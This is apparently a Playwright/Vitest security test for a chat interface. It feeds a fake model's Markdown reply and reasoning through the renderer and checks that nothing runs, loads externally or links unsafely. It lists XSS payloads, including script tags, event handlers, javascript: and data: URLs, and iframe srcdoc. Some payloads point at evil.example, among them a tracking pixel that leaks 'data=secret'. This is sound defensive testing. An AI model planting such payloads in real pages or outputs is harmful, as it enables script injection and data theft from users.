import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { reply, startModelServer } from '@toolyard/testing';
import { closeBrowser } from './support/browser.ts';
import { answered, messages, openTab, prepareBrowser, say } from './support/page.ts';
import { startServerProcess } from './support/server.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await prepareBrowser();
}, 120_000);
afterAll(closeBrowser);

const HOSTILE = [
  '<script>window.taken = 1</script>',
  '<img src=x onerror="window.taken = 2">',
  '<svg onload="window.taken = 3"><foreignObject><iframe src="https://evil.example/f"></iframe></foreignObject></svg>',
  '<iframe srcdoc="<script>parent.taken = 4</script>"></iframe>',
  '<a href="javascript:window.taken=5" onclick="window.taken=5">click 5</a>',
  '[click 6](javascript:window.taken=6)',
  '[click 7](data:text/html,<script>opener.taken=7</script>)',
  '![who reads this](https://evil.example/pixel.png?data=secret)',
  '[![in a link](https://evil.example/two.png)](https://good.example/)',
  '<b onmouseover="window.taken=8" style="position:fixed;inset:0">bold</b>',
  '<style>body { display: none }</style><form action="https://evil.example"><input name="q"></form>',
  '`<img src=x onerror=window.taken=9>`',
  '```html\n<img src=x onerror="window.taken=10"><script>window.taken=10</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=window.taken=11> |',
  '# <img src=x onerror=window.taken=12>',
  '[ref]\n\n[ref]: javascript:window.taken=13 "x"',
  '<https://good.example/auto> and &lt;script&gt; stay text',
  '<math><mi xlink:href="javascript:window.taken=14">m</mi></math>',
].join('\n\n');

it('attack: Markdown of a model runs nothing, loads nothing and leads nowhere it does not say', async () => {
  await using model = await startModelServer([reply.text(HOSTILE, { pieces: 3, reasoning: HOSTILE })]);
  await using server = await startServerProcess({ env: { OPENAI_BASE_URL: model.url, OPENAI_API_KEY: 'k' } });
  const { page, faults } = await openTab(browser, server.url);
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== server.url && !request.url().startsWith('data:'))
      elsewhere.push(request.url());
  });

  await say(page, 'Show me something.');
  await answered(page);
  await messages(page).getByText('stay text').waitFor();
  await messages(page)
    .getByRole('button', { name: /Thought/ })
    .click();
  await messages(page).hover();

  const shown = messages(page).locator('.md');
  expect(await page.evaluate("'taken' in window")).toBe(false);
  const tags = 'script, img, svg, iframe, style, form, input, math, object';
  expect(await shown.locator(`:is(${tags}):not(button *)`).count()).toBe(0);
  expect(
    await shown.locator(':is([src], [srcdoc], [style], [onclick], [onerror], [onload], [onmouseover])').count(),
  ).toBe(0);
  const links = await shown.locator('a').all();
  expect(links.length).toBeGreaterThan(0);
  for (const link of links) {
    expect(await link.getAttribute('href')).toMatch(/^https:\/\/(evil|good)\.example\//);
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await link.getAttribute('target')).toBe('_blank');
  }
  expect(await shown.last().innerText()).toContain('who reads this (evil.example)');
  expect(elsewhere).toEqual([]);
  expect(faults).toEqual([]);
  await page.context().close();
});
